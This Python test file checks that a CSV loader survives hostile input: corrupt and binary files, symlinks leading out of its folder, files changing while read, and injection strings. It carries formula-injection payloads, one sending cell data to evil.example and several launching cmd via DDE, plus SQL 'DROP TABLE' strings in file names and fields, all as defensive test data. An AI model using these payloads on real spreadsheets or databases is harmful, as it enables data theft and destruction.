"""Hostile input: a corpus generated here (never hand-pasted) of every file-level and row-level class
of dataset.md plus deliberately hostile files, loaded by `flsdb load` (src/flsdb/load.py).

Every case must end in a clear, specific message and lose nothing: for every file,
rows read = rows accepted + rows rejected, and every file of the landing folder is accounted for
(loaded, rejected, unchanged or refused) in the load result.

The dataset.md classes themselves are asserted one by one in test_load.py (ROW_CASES and the
file-level cases); here they are reused to build one mixed corpus, which is loaded in one go (the
batched, combined staging path) and must give exactly what loading each file alone gives.
The 10,000-file and 50 MB cases are marked `slow` but run by default (and in CI).
"""

from __future__ import annotations

import csv
import io
import os
import random
import time
from pathlib import Path

import duckdb
import pytest

from flsdb import contract, load, safe_csv
from flsdb.load import load_landing

from test_load import (COLS, REGISTRY_CODES, ROW_CASES, assert_counts_balance, csv_line, csv_text,
                       good_row, load_env, nhs)  # noqa: F401  (load_env is a fixture)

SEED = 20250607
HEADER = csv_text([])


def rows_text(rows, cols=None, term="\n") -> str:
    text = csv_text(rows, cols)
    return text.replace("\n", term) if term != "\n" else text


def landing_entries(landing: Path) -> set[str]:
    """Every file (and link, and folder that cannot be listed) under landing, found independently
    of the loader's discovery, except the exempt top-level _reference/ folder."""
    found: set[str] = set()

    def unlistable(err):
        found.add(Path(err.filename).relative_to(landing).as_posix())

    for dirpath, dirnames, filenames in os.walk(landing, onerror=unlistable):
        here = Path(dirpath)
        if here == landing and "_reference" in dirnames:
            dirnames.remove("_reference")
        for name in filenames + [d for d in dirnames if (here / d).is_symlink()]:
            found.add((here / name).relative_to(landing).as_posix())
    return found


def all_accounted(env, result) -> None:
    """Every file of the landing folder has an outcome; every one not loaded is recorded in
    raw.load_files with its reason; nothing is lost; reasons are specific."""
    names = {load._printable(r) for r in landing_entries(env.landing)}
    assert {f.source_file for f in result.files} == names
    for f in result.files:
        if f.status in ("rejected", "refused", "skipped"):
            assert f.reason and len(f.reason) >= 15, f
        if f.status == "loaded":
            assert f.rows_read == f.rows_accepted + f.rows_rejected, f
    recorded = set(env.q("SELECT source_file, status, rejection_reason FROM raw.load_files "
                         "WHERE status IN ('skipped', 'refused')"))
    for f in result.files:
        if f.status in ("skipped", "refused"):
            assert any(r[0] == f.source_file and r[1] == f.status for r in recorded), f
    escaped = [r[0] for r in env.q("SELECT source_file_escaped FROM raw.load_files")]
    assert None not in escaped
    assert_counts_balance(env)


# ---------------------------------------------------------------------------------------------
# The mixed corpus: every dataset.md class in one landing folder, loaded at once
# ---------------------------------------------------------------------------------------------

def dataset_md_corpus() -> dict[str, bytes]:
    """Every file-level and row-level class of dataset.md, one file each, plus valid files."""
    files: dict[str, bytes] = {}
    for i, (over, code, _col, _needle) in enumerate(ROW_CASES):
        rows = [good_row(100 * i + j) for j in range(3)]
        rows.insert(1, good_row(100 * i + 50, **over))
        files[f"rows/{i:02d}_{code}.csv"] = csv_text(rows).encode()
    files["rows/wrong_column_count.csv"] = (
        HEADER + csv_line(good_row(1)) + "\n" + csv_line(good_row(2))[:40] + "\n"
        + csv_line(good_row(3)) + ",extra\n" + csv_line(good_row(4)) + "\n").encode()
    files["files/empty.csv"] = b""
    files["files/blank_lines.csv"] = b"\n\n \r\n"
    files["files/pdf.csv"] = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n"
    files["files/workbook.xlsx"] = b"PK\x03\x04\x14\x00\x06\x00" + bytes(range(1, 200))
    files["files/utf16.csv"] = HEADER.encode("utf-16")
    files["files/no_header.csv"] = (csv_line(good_row(7)) + "\n").encode()
    files["files/missing_required.csv"] = csv_text(
        [good_row(8)], [c for c in COLS if c != "Record ID"]).encode()
    files["files/duplicate_header.csv"] = csv_text([good_row(9)], COLS + ["1.03 Gender"]).encode()
    files["files/bad_encoding.csv"] = HEADER.encode() + b"RX1,\x81\x8d\x90,\n"
    files["files/windows1252.csv"] = csv_text(
        [good_row(10, **{"1.04 Post Code": "B1 1AA", "Record ID": "Zoë-1"})]).encode("cp1252")
    files["files/header_only.csv"] = HEADER.encode()
    files["files/bom.csv"] = b"\xef\xbb\xbf" + csv_text([good_row(11)]).encode()
    return files


def _snapshot_by_file(env):
    """raw tables keyed by file content, without load order and load time (which depend on
    batching and on when things ran)."""
    return {
        "load_files": env.q(
            "SELECT file_sha256, source_file, file_size_bytes, detected_encoding, status, "
            "rejection_reason, rows_read, rows_accepted, rows_rejected, file_extract_date "
            "FROM raw.load_files ORDER BY ALL"),
        "records": env.q(
            "SELECT * EXCLUDE (_load_order, _loaded_at) FROM raw.submission_records ORDER BY ALL"),
        "rejects": env.q(
            "SELECT * EXCLUDE (_load_order, _loaded_at) FROM raw.submission_rejects ORDER BY ALL"),
    }


def test_mixed_corpus_batched_equals_one_file_at_a_time(load_env, tmp_path, monkeypatch):
    """The whole dataset.md corpus loaded in one batch (small files combined into one DuckDB
    read, grouped commits) gives exactly what loading every file on its own gives."""
    corpus = dataset_md_corpus()
    for name, data in corpus.items():
        load_env.write(name, data)
    monkeypatch.setattr(load._Loader, "SMALL_BATCH_FILES", 4)   # force grouped commits too
    result = load_env.load()
    all_accounted(load_env, result)
    batched = _snapshot_by_file(load_env)

    # Reference: one batch per file, no combining (the plain per-file path).
    monkeypatch.setattr(load._Loader, "BATCH_FILES", 1)
    monkeypatch.setattr(load._Loader, "COMBINE_MAX_BYTES", 0)
    ref_wh = tmp_path / "ref.duckdb"
    load_landing(load_env.landing, ref_wh, registry_path=load_env.registry, progress=False)
    load_env.warehouse, saved = ref_wh, load_env.warehouse
    reference = _snapshot_by_file(load_env)
    load_env.warehouse = saved
    assert batched == reference

    outcome = {f.source_file: f for f in result.files}
    assert all(outcome[n].status == "rejected" for n in corpus
               if n.startswith("files/") and n not in (
                   "files/windows1252.csv", "files/header_only.csv", "files/bom.csv"))
    for i, (_over, code, _col, needle) in enumerate(ROW_CASES):
        (line, got, _c, reason, _raw), = load_env.rejects(f"rows/{i:02d}_{code}.csv")
        assert (line, got) == (3, code) and needle in reason
    assert load_env.q("SELECT count(*) FROM raw.submission_records WHERE \"Record ID\" = 'Zoë-1'") \
        == [(1,)]


# ---------------------------------------------------------------------------------------------
# Hostile files, one class per case
# ---------------------------------------------------------------------------------------------

def _random_bytes(with_nul: bool) -> bytes:
    rng = random.Random(SEED + with_nul)
    data = rng.randbytes(64 * 1024)
    return data if with_nul else data.replace(b"\x00", b"\x01")


@pytest.mark.parametrize("name,content,needle", [
    ("random_binary.csv", _random_bytes(True), "binary data (NUL bytes)"),
    ("random_bytes_no_nul.csv", _random_bytes(False), "Unreadable encoding"),
    ("zero_bytes.csv", b"", "The file is empty."),
    ("only_bom.csv", b"\xef\xbb\xbf", "empty"),
    ("gzip.csv.gz", b"\x1f\x8b\x08\x00" + bytes(100), "gzip"),
    ("one_line_no_newline_no_header.csv", b"lorem ipsum " * 100, "No header row"),
])
def test_hostile_whole_file_rejects(load_env, name, content, needle):
    load_env.write(name, content)
    result = load_env.load()
    status, reason, read, acc, rej, _ = load_env.file_row(name)
    assert (status, read, acc, rej) == ("rejected", 0, 0, 0)
    assert needle in reason, reason
    all_accounted(load_env, result)
    assert load_env.q("SELECT count(*) FROM raw.submission_records") == [(0,)]


def test_header_only_is_loaded_with_zero_rows(load_env):
    load_env.write("h.csv", HEADER)
    result = load_env.load()
    assert load_env.file_row("h.csv")[:5] == ("loaded", None, 0, 0, 0)
    all_accounted(load_env, result)


@pytest.mark.slow
def test_50mb_single_line_without_header_is_rejected_quickly(load_env):
    load_env.write("huge.csv", b"x" * (50 * 1024 * 1024))
    t0 = time.perf_counter()
    result = load_env.load()
    seconds = time.perf_counter() - t0
    status, reason, *_ = load_env.file_row("huge.csv")
    assert status == "rejected" and "No header row" in reason and len(reason) < 400
    all_accounted(load_env, result)
    assert seconds < 60, seconds


@pytest.mark.slow
def test_50mb_single_row_is_one_reject_and_its_neighbours_load(load_env):
    huge = good_row(2, **{"2.01 Height": "9" * (50 * 1024 * 1024)})
    load_env.write("huge_row.csv", csv_text([good_row(1), huge, good_row(3)]))
    t0 = time.perf_counter()
    result = load_env.load()
    seconds = time.perf_counter() - t0
    assert load_env.file_row("huge_row.csv")[:5] == ("loaded", None, 3, 2, 1)
    (line, code, _col, reason, raw_len), = load_env.q(
        "SELECT _line_number, reject_code, column_name, reject_reason, length(raw_line) "
        "FROM raw.submission_rejects")
    assert (line, code) == (3, "wrong_column_count")
    assert "over the limit of 10,000,000 bytes for one row" in reason
    assert raw_len == len(csv_line(huge))          # the raw row is kept, whole
    all_accounted(load_env, result)
    assert seconds < 60, seconds


def test_quote_never_closed_keeps_the_rest_of_the_file_as_one_reject(load_env):
    rows = [good_row(i) for i in range(200)]
    lines = csv_text(rows).split("\n")
    lines[3] = lines[3].replace("R00002", '"R00002 never closed', 1)   # file line 4
    text = "\n".join(lines)
    load_env.write("open_quote.csv", text)
    result = load_env.load()
    assert load_env.file_row("open_quote.csv")[:5] == ("loaded", None, 3, 2, 1)
    (line, code, _c, reason, raw_line), = load_env.rejects("open_quote.csv")
    assert (line, code) == (4, "wrong_column_count")
    assert "opened on line 4 is never closed" in reason and "lines 4 to 201" in reason
    assert raw_line == "\n".join(lines[3:201])   # nothing lost: the rest of the file, verbatim
    all_accounted(load_env, result)


def test_mixed_line_endings(load_env):
    rows = [good_row(i) for i in range(6)]
    body = [csv_line(r) for r in rows]
    text = HEADER.rstrip("\n") + "\r\n" + body[0] + "\n" + body[1] + "\r\n" + body[2] + "\n\n" \
        + body[3] + "\r\n" + body[4] + "\n" + body[5]           # no final newline
    load_env.write("mixed.csv", text)
    result = load_env.load()
    assert load_env.file_row("mixed.csv")[:5] == ("loaded", None, 6, 6, 0)
    assert load_env.q("SELECT _line_number, \"Record ID\" FROM raw.submission_records "
                      "ORDER BY 1") == [(2, "R00000"), (3, "R00001"), (4, "R00002"),
                                        (6, "R00003"), (7, "R00004"), (8, "R00005")]
    assert load_env.q("SELECT count(*) FROM raw.submission_records WHERE "
                      "\"Record ID\" LIKE '%' || chr(13) || '%' OR \"2.01 Height\" LIKE "
                      "'%' || chr(13)") == [(0,)]
    assert result.files[0].warnings == ["mixed line endings (3 CRLF and 4 LF); all were read as "
                                        "line ends"]
    all_accounted(load_env, result)


def test_lone_carriage_return_inside_a_value_refuses_the_file_clearly(load_env):
    load_env.write("cr_value.csv", csv_text([good_row(0), good_row(1), good_row(2)])
                   .replace("R00001", "R00\r001"))
    result = load_env.load()
    status, reason, *_ = load_env.file_row("cr_value.csv")
    assert status == "rejected"
    assert reason.startswith("Not readable as CSV: line 3 contains a carriage return (CR) on its own")
    all_accounted(load_env, result)


def test_old_mac_carriage_return_only_line_endings(load_env):
    """Lone CR line ends (classic Mac): read as line ends, or refused whole - never mis-split."""
    text = csv_text([good_row(0), good_row(1)]).replace("\n", "\r")
    load_env.write("cr.csv", text)
    result = load_env.load()
    status, reason, read, acc, rej, _ = load_env.file_row("cr.csv")
    if status == "loaded":
        assert (read, acc, rej) == (2, 2, 0)
    else:
        assert "CSV" in reason or "header" in reason.lower(), reason
    all_accounted(load_env, result)


def test_bom_in_the_middle_two_exports_joined(load_env):
    first = csv_text([good_row(0), good_row(1)])
    second = "\ufeff" + csv_text([good_row(2), good_row(3)])
    load_env.write("joined.csv", first + second)
    result = load_env.load()
    assert load_env.file_row("joined.csv")[:5] == ("loaded", None, 5, 4, 1)
    (line, code, _c, reason, raw_line), = load_env.rejects("joined.csv")
    assert line == 4 and code == "invalid_date"
    assert reason.startswith("This row repeats the header row")
    assert raw_line.startswith("\ufeffFLS Code")
    all_accounted(load_env, result)


def test_bom_inside_a_value_is_shown_not_hidden(load_env):
    load_env.write("bomval.csv", csv_text([good_row(0), good_row(1, **{"FLS Code": "\ufeffRX1"})]))
    load_env.load()
    (_l, code, _c, reason, _r), = load_env.rejects("bomval.csv")
    assert code == "unknown_fls_code" and "'<U+FEFF>RX1'" in reason


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1"]


def test_formula_injection_is_loaded_as_data(load_env):
    rows = [good_row(i, **{"Record ID": f, "1.03 Gender": f, "3.02 DXANotOrdered": f})
            for i, f in enumerate(FORMULAS)]
    load_env.write("formula.csv", csv_text(rows))
    result = load_env.load()
    assert load_env.file_row("formula.csv")[:5] == ("loaded", None, 5, 5, 0)
    got = load_env.q('SELECT "Record ID", "1.03 Gender" FROM raw.submission_records ORDER BY '
                     "_line_number")
    assert got == [(f, f) for f in FORMULAS]
    all_accounted(load_env, result)


def test_safe_csv_neutralises_formulas_and_keeps_numbers(tmp_path):
    for f in FORMULAS + ["=1+1", " =1", "@A1", "\r=1", "\uff1dSUM(A1)"]:
        assert safe_csv.neutralise(f) == "'" + f
        assert not safe_csv.is_dangerous(safe_csv.neutralise(f))
    for ok in ["Hip", "-3.2", "+44", "1e-5", "-", "", 42, -1.5, None, "a=b", "Don't know"]:
        expected = ok if not (isinstance(ok, str) and ok == "-") else "'-"
        assert safe_csv.neutralise(ok) == expected
    path = safe_csv.write_csv(tmp_path / "x.csv", ["a", "b"], [[f, -3.2] for f in FORMULAS])
    assert safe_csv.dangerous_cells(path) == []
    back = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
    assert [r[0] for r in back[1:]] == ["'" + f for f in FORMULAS]


# ---------------------------------------------------------------------------------------------
# File names, links out of the landing folder, SQL metacharacters
# ---------------------------------------------------------------------------------------------

HOSTILE_NAMES = [
    "with spaces and  double  spaces.csv",
    "it's \"quoted\".csv",
    "x'; DROP TABLE raw.load_files; --.csv",
    "unicode Zoë 中文 🚑.csv",
    "a..b..csv",
    "back\\slash.csv",
    "per%cent_under_score$1?.csv",
    "sub dir/nested 'dir'/deep.csv",
]


def test_hostile_file_names_are_stored_exactly(load_env):
    for i, name in enumerate(HOSTILE_NAMES):
        load_env.write(name, csv_text([good_row(i)]))
    result = load_env.load()
    assert sorted(r[0] for r in load_env.q("SELECT source_file FROM raw.load_files")) == \
        sorted(HOSTILE_NAMES)
    assert sorted(r[0] for r in load_env.q("SELECT DISTINCT _source_file FROM "
                                           "raw.submission_records")) == sorted(HOSTILE_NAMES)
    all_accounted(load_env, result)
    assert all(n in result.summary_table() for n in HOSTILE_NAMES if "\\" not in n)


def test_file_name_that_is_not_utf8(load_env):
    raw_name = os.fsencode(str(load_env.landing)) + b"/latin1_caf\xe9.csv"
    with open(raw_name, "wb") as fh:
        fh.write(csv_text([good_row(0)]).encode())
    result = load_env.load()
    assert load_env.q("SELECT source_file, status FROM raw.load_files") == [
        ("latin1_caf\\xe9.csv", "loaded")]
    all_accounted(load_env, result)


def test_links_out_of_the_landing_folder_are_not_followed(load_env, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    secret = csv_text([good_row(99, **{"Record ID": "OUTSIDE-SECRET"})])
    (outside / "secret.csv").write_text(secret)
    (outside / "dir").mkdir()
    (outside / "dir" / "more.csv").write_text(secret)
    landing = load_env.landing
    (landing / "inside.csv").write_text(csv_text([good_row(1)]))
    os.symlink(outside / "secret.csv", landing / "link_out.csv")
    os.symlink("../outside/secret.csv", landing / "relative_link_out.csv")
    os.symlink(outside / "dir", landing / "dir_link_out")
    os.symlink(landing / "inside.csv", landing / "link_in.csv")
    os.symlink(landing / "missing.csv", landing / "dangling.csv")
    (landing / "sub").mkdir()
    os.symlink("../../outside/secret.csv", landing / "sub" / "dotdot.csv")
    result = load_env.load()
    out = {f.source_file: f for f in result.files}
    for name in ("link_out.csv", "relative_link_out.csv", "sub/dotdot.csv"):
        assert out[name].status == "refused"
        assert "outside the landing folder" in out[name].reason
    assert out["dir_link_out"].status == "refused" and "never followed" in out["dir_link_out"].reason
    assert out["dangling.csv"].status == "refused" and "does not exist" in out["dangling.csv"].reason
    assert out["inside.csv"].status == "loaded"
    assert out["link_in.csv"].status == "unchanged"
    assert "same content as inside.csv" in out["link_in.csv"].reason
    assert "REFUSED" in result.summary_table()
    con = duckdb.connect(str(load_env.warehouse), read_only=True)
    try:
        for table in ("load_files", "submission_records", "submission_rejects"):
            dump = str(con.execute(f"SELECT * FROM raw.{table}").fetchall())
            assert "OUTSIDE-SECRET" not in dump and str(outside) not in dump
    finally:
        con.close()
    all_accounted(load_env, result)


SQL_NASTY = ["RX1'; DROP TABLE raw.submission_records; --", 'R"1"; SELECT 1; --',
             "R1') OR ('1'='1", "R1\\'; --", "R1%_$1?:name", "R1€\u202e"]


class _TracingConnection:
    """Wraps a DuckDB connection and records every SQL text executed through it."""

    def __init__(self, con, log):
        self._con, self._log = con, log

    def execute(self, sql, *args, **kwargs):
        self._log.append(sql)
        return self._con.execute(sql, *args, **kwargs)

    def __getattr__(self, name):
        return getattr(self._con, name)


def test_sql_metacharacters_never_reach_sql_text(load_env, monkeypatch):
    """Hostile FLS codes, record IDs and file names are stored verbatim, and no SQL statement the
    loader runs contains any of them: values travel as parameters or through the CSV reader and
    registered Arrow tables only (the proof is the trace of every statement)."""
    registry_code = "Q'1;--"
    load_env.registry.write_text(load_env.registry.read_text() + f"\"{registry_code}\",Quoted\n")
    rows = [good_row(i, **{"Record ID": v}) for i, v in enumerate(SQL_NASTY)]
    rows += [good_row(50 + i, **{"FLS Code": v}) for i, v in enumerate(SQL_NASTY)]
    rows.append(good_row(90, **{"FLS Code": registry_code, "Record ID": "registry-quote"}))
    name = "x'; DROP TABLE raw.load_files; --.csv"
    load_env.write(name, csv_text(rows))
    load_env.write("second.csv", csv_text([good_row(91)]))
    statements: list[str] = []
    real_connect = load._connect
    monkeypatch.setattr(load, "_connect",
                        lambda *a, **k: _TracingConnection(real_connect(*a, **k), statements))
    result = load_env.load()
    assert statements
    for sql in statements:
        for value in [*SQL_NASTY, registry_code, name, "registry-quote"]:
            assert value not in sql, (value, sql[:200])
    all_accounted(load_env, result)
    assert load_env.file_row(name)[:5] == ("loaded", None, len(rows), len(SQL_NASTY) + 1,
                                           len(SQL_NASTY))
    stored = {r[0] for r in load_env.q('SELECT "Record ID" FROM raw.submission_records')}
    assert set(SQL_NASTY) <= stored and "registry-quote" in stored
    rejected = load_env.q("SELECT fls_code, reject_code, reject_reason FROM raw.submission_rejects "
                          "ORDER BY _line_number")
    assert [r[0] for r in rejected] == SQL_NASTY
    assert all(code == "unknown_fls_code" for _, code, _ in rejected)
    assert "'RX1''; DROP TABLE raw.submission_records; --'" in rejected[0][2]
    tables = load_env.q("SELECT table_name FROM information_schema.tables "
                        "WHERE table_schema = 'raw' ORDER BY 1")
    assert tables == [("load_file_rejects",), ("load_files",), ("submission_records",),
                      ("submission_rejects",)]


def test_fls_code_differing_row_to_row_is_allowed_per_row_with_a_warning(load_env):
    rows = [good_row(0), good_row(1, **{"FLS Code": "RX2"}), good_row(2, **{"FLS Code": "7a4"}),
            good_row(3, **{"FLS Code": "NOPE"})]
    load_env.write("mixed_fls.csv", csv_text(rows))
    result = load_env.load()
    assert load_env.file_row("mixed_fls.csv")[:5] == ("loaded", None, 4, 3, 1)
    (f,) = result.files
    assert f.warnings == ["the accepted rows carry 3 different FLS codes (7A4, RX1, RX2); each row "
                          "is checked and counted under its own FLS code"]
    assert "WARNING: the accepted rows carry 3 different FLS codes" in result.summary_table()
    all_accounted(load_env, result)


# ---------------------------------------------------------------------------------------------
# Many files; a file that changes while it is loaded
# ---------------------------------------------------------------------------------------------

@pytest.mark.slow
def test_ten_thousand_one_row_files(load_env):
    header = HEADER.encode()
    for i in range(10_000):
        (load_env.landing / f"one_{i:05d}.csv").write_bytes(header + (csv_line(good_row(i))
                                                                       + "\n").encode())
    t0 = time.perf_counter()
    result = load_env.load()
    seconds = time.perf_counter() - t0
    print(f"\n10,000 one-row files loaded in {seconds:.1f}s")
    assert (result.files_loaded, result.rows_read, result.rows_accepted) == (10_000, 10_000, 10_000)
    assert load_env.q("SELECT count(*), count(DISTINCT _source_file), min(load_order), "
                      "max(load_order) FROM raw.submission_records r JOIN raw.load_files f "
                      "ON f.file_sha256 = r._file_sha256") == [(10_000, 10_000, 1, 10_000)]
    assert load_env.q("SELECT count(*) FROM raw.submission_records "
                      "WHERE _line_number <> 2") == [(0,)]
    assert_counts_balance(load_env)
    again = load_env.load()
    assert again.files_unchanged == 10_000
    assert seconds < 120, seconds


def test_file_changing_during_read_is_retried_then_loaded(load_env, monkeypatch):
    path = load_env.write("growing.csv", csv_text([good_row(0)]))
    real_open, calls = open, []

    def open_then_append(file, *args, **kwargs):
        handle = real_open(file, *args, **kwargs)
        if Path(file) == path and not calls:
            calls.append(1)
            with real_open(path, "ab") as fh:             # a writer appends meanwhile
                fh.write((csv_line(good_row(1)) + "\n").encode())
        return handle

    monkeypatch.setattr(load, "open", open_then_append, raising=False)
    monkeypatch.setattr(load, "READ_RETRY_SECONDS", 0.01)
    result = load_env.load()
    assert calls and load_env.file_row("growing.csv")[:5] == ("loaded", None, 2, 2, 0)
    all_accounted(load_env, result)


def test_file_that_never_stops_changing_is_refused_clearly(load_env, monkeypatch):
    path = load_env.write("busy.csv", csv_text([good_row(0)]))
    load_env.write("calm.csv", csv_text([good_row(1)]))
    real_open = open

    def open_then_append(file, *args, **kwargs):
        handle = real_open(file, *args, **kwargs)
        if Path(file) == path:
            with real_open(path, "ab") as fh:
                fh.write((csv_line(good_row(2)) + "\n").encode())
        return handle

    monkeypatch.setattr(load, "open", open_then_append, raising=False)
    monkeypatch.setattr(load, "READ_RETRY_SECONDS", 0.01)
    result = load_env.load()
    out = {f.source_file: f for f in result.files}
    assert out["busy.csv"].status == "refused"
    assert "changed while it was being read" in out["busy.csv"].reason
    assert "run `flsdb load` again" in out["busy.csv"].reason
    assert out["calm.csv"].status == "loaded"
    assert load_env.q("SELECT source_file FROM raw.load_files WHERE status = 'loaded'") == [
        ("calm.csv",)]
    assert load_env.q("SELECT source_file, rows_read FROM raw.load_files "
                      "WHERE status = 'refused'") == [("busy.csv", 0)]
    assert "1 refused" in result.summary_table()
    monkeypatch.setattr(load, "open", real_open, raising=False)
    result = load_env.load()                                 # once quiet, it loads
    assert load_env.file_row("busy.csv")[:5] == ("loaded", None, 4, 4, 0)
    all_accounted(load_env, result)


def test_file_changed_after_reading_before_commit_is_not_committed(load_env, monkeypatch):
    path = load_env.write("late.csv", csv_text([good_row(0)]))
    load_env.write("other.csv", csv_text([good_row(1)]))
    real_flush = load._Loader.flush

    def flush_after_a_write(self):
        if self.pending:
            with open(path, "ab") as fh:
                fh.write((csv_line(good_row(2)) + "\n").encode())
        return real_flush(self)

    monkeypatch.setattr(load._Loader, "flush", flush_after_a_write)
    result = load_env.load()
    out = {f.source_file: f for f in result.files}
    assert out["late.csv"].status == "refused"
    assert "changed while it was being loaded (its size changed" in out["late.csv"].reason
    assert out["other.csv"].status == "loaded"
    assert load_env.q("SELECT DISTINCT _source_file FROM raw.submission_records") == [
        ("other.csv",)]
    monkeypatch.setattr(load._Loader, "flush", real_flush)
    load_env.load()
    assert load_env.file_row("late.csv")[:5] == ("loaded", None, 2, 2, 0)
    assert_counts_balance(load_env)
